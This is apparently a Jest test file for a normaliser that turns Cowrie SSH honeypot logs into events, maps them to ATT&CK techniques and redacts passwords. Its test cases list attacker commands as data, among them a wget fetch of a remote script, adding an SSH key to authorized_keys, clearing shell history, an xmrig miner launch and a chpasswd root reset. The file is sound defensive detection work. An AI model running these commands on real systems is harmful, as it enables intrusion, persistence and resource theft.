import { describe, expect, it } from '@jest/globals'
import type { Event } from '../../schemas/generated.ts'
import { createNormalise } from './normalise.ts'

const origin = { topic: 'raw-events', partition: 0, offset: 1, timestamp: Date.UTC(2026, 10, 24) }
const normalise = createNormalise({ assumeTimeZone: 'UTC', secretsMode: undefined, secretsKey: undefined })

const read = (line: string | Record<string, unknown>): Event => {
  const [event] = normalise(typeof line === 'string' ? line : JSON.stringify(line), origin)
  if (event === undefined) throw new Error('no event')
  return event
}

const base = {
  session: 'ce2d6638aec7',
  protocol: 'ssh',
  src_ip: '203.0.113.9',
  src_port: 48907,
  dst_ip: '192.0.2.1',
  dst_port: 2222,
  sensor: 'cowrie-1',
  timestamp: '2026-11-23T21:22:29.020240Z',
}

describe('Cowrie', () => {
  it('reads a failed login and takes the password out of its message too', () => {
    const event = read(
      '{"session":"ce2d6638aec7","protocol":"ssh","src_ip":"127.0.10.5","src_port":48907,"dst_ip":"127.0.0.1","dst_port":2222,"username":"admin","password":"raspberry","eventid":"cowrie.login.failed","sensor":"cowrie-1","uuid":"176dda2e-e783-11f1-9dad-02fc00000001","timestamp":"2026-11-23T21:22:29.020240Z","message":"login attempt [admin/raspberry] failed"}',
    )
    expect(event).toMatchObject({
      source: 'cowrie',
      type: 'cowrie.login.failed',
      category: 'authentication',
      outcome: 'failure',
      user: 'admin',
      session: 'ce2d6638aec7',
      sensor: 'cowrie-1',
      service: 'ssh',
      time: Date.UTC(2026, 10, 23, 21, 22, 29, 20),
      techniques: ['T1110.001'],
    })
    expect(JSON.parse(event.original)).toMatchObject({
      username: 'admin',
      password: '[dropped]',
      message: 'login attempt [admin/[dropped]] failed',
    })
  })

  it('reads durations of 3.x in ms and of 2018 in seconds', () => {
    expect(read({ ...base, eventid: 'cowrie.session.closed', duration_ms: 1154 }).durationMs).toBe(1154)
    expect(read({ ...base, eventid: 'cowrie.session.closed', duration: 2.5 }).durationMs).toBe(2500)
    expect(read({ ...base, eventid: 'cowrie.log.closed', duration: '12.25' }).durationMs).toBe(12_250)
  })

  it('reads lines of 2018, which name the service in `system` only', () => {
    const event = read(
      '{"eventid":"cowrie.session.connect","timestamp":"2018-03-01T00:00:11.106414Z","session":"4ab12c","src_port":51776,"message":"New connection: 198.51.100.7:51776 (10.0.0.2:2222) [session: 4ab12c]","system":"cowrie.ssh.factory.CowrieSSHFactory","isError":0,"src_ip":"198.51.100.7","dst_port":2222,"dst_ip":"10.0.0.2","sensor":"hp"}',
    )
    expect(event).toMatchObject({ service: 'ssh', entity: 'ip:198.51.100.7', clockSkew: false })
    expect(event.time).toBe(Date.UTC(2018, 2, 1, 0, 0, 11, 106))
  })

  it('keeps the requested target of a forwarding apart from who asks, also when it is a name', () => {
    const line =
      '{"session":"d55712d77633","protocol":"ssh","src_ip":"127.0.33.200","src_port":50627,"dst_ip":"198.51.100.7","dst_port":25,"orig_ip":"127.0.0.1","orig_port":4444,"eventid":"cowrie.direct-tcpip.request","sensor":"cowrie-1","timestamp":"2026-11-23T21:22:59.949250Z","message":"direct-tcp connection request to 198.51.100.7:25 from 127.0.0.1:4444"}'
    expect(read(line)).toMatchObject({
      srcIp: '127.0.33.200',
      dstIp: '198.51.100.7',
      dstPort: 25,
      techniques: ['T1090'],
    })
    expect(
      read({ ...base, eventid: 'cowrie.direct-tcpip.request', dst_ip: 'ya.ru', dst_port: 80 }),
    ).toMatchObject({ dstIp: null, dstHost: 'ya.ru', dstPort: 80 })
  })

  it.each([
    ['uname -a', ['T1082']],
    ['wget http://198.51.100.7/x.sh -O /tmp/x.sh', ['T1105']],
    ['echo "ssh-rsa AAAA x" >> ~/.ssh/authorized_keys', ['T1098.004']],
    ['history -c', ['T1070.003']],
    ['crontab -l; ps aux; whoami', ['T1033', 'T1057', 'T1053.003']],
    ['./xmrig -o stratum+tcp://pool:3333', ['T1496']],
    ['enable', []],
  ])('sees in `%s` what it is for', (input, expected) => {
    expect(read({ ...base, eventid: 'cowrie.command.input', input })).toMatchObject({
      command: input,
      techniques: ['T1059.004', ...expected],
    })
  })

  it('takes passwords out of commands', () => {
    const event = read({
      ...base,
      eventid: 'cowrie.command.input',
      input: 'echo "root:Ab3dEf9h"|chpasswd',
      message: 'CMD: echo "root:Ab3dEf9h"|chpasswd',
    })
    expect(event.command).toBe('echo "root:[dropped]"|chpasswd')
    expect(JSON.stringify(event)).not.toContain('Ab3dEf9h')
  })

  it('reads files and fingerprints', () => {
    expect(
      read({
        ...base,
        eventid: 'cowrie.session.file_download',
        url: 'http://198.51.100.7/a',
        shasum: 'ab12',
      }),
    ).toMatchObject({
      url: 'http://198.51.100.7/a',
      fileHash: 'ab12',
      techniques: ['T1105'],
      category: 'file',
    })
    expect(read({ ...base, eventid: 'cowrie.client.kex', hassh: '4c94', kexAlgs: ['x'] }).fingerprint).toBe(
      '4c94',
    )
  })

  it('keeps event ids that it does not know', () => {
    expect(read({ ...base, eventid: 'cowrie.virustotal.scanfile' })).toMatchObject({
      type: 'cowrie.virustotal.scanfile',
      title: 'Cowrie virustotal.scanfile',
    })
  })

  it('calls an event id that is no text malformed', () => {
    expect(() => read({ ...base, eventid: null })).toThrow(expect.objectContaining({ code: 'NS_MALFORMED' }))
  })
})
